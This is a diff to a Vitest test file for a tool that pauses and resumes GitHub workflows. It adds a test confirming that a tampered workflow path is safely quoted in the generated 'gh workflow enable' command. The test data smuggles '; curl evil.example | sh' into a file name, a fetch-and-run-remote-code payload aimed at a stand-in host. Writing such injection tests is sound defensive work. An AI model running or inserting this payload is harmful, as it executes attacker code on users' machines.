@@ -1,5 +1,5 @@
 import { expect, test } from "vitest";
-import { planPause } from "../../../src/actions/deploy-hub/pause-workflows.ts";
+import { planPause, resumeCommands } from "../../../src/actions/deploy-hub/pause-workflows.ts";
 import { formatPausedRecord, parsePausedRecord } from "../../../src/actions/deploy-hub/paused-record.ts";
 
 const FOLDER = ".github/workflows";
@@ -39,6 +39,13 @@ test("a record reads back as it was written", () => {
     since: "2026-11-21T00:00:00.000Z",
   };
   expect(parsePausedRecord(formatPausedRecord(record))).toEqual(record);
+});
+
+test("a record that someone tampered with cannot smuggle a command into the one that people paste", () => {
+  const workflows = [{ id: 7, path: `${FOLDER}/x.yml; curl evil.example | sh` }];
+  expect(resumeCommands({ repository: "contoso/costs", workflows, run: undefined, since: "" })).toEqual([
+    "gh workflow enable 'x.yml; curl evil.example | sh' --repo contoso/costs",
+  ]);
 });
 
 test.each(["", "{", "[]", "null", '{"repository": "a/b"}', '{"repository": "a/b", "workflows": [{"id": "1; x"}]}'])(
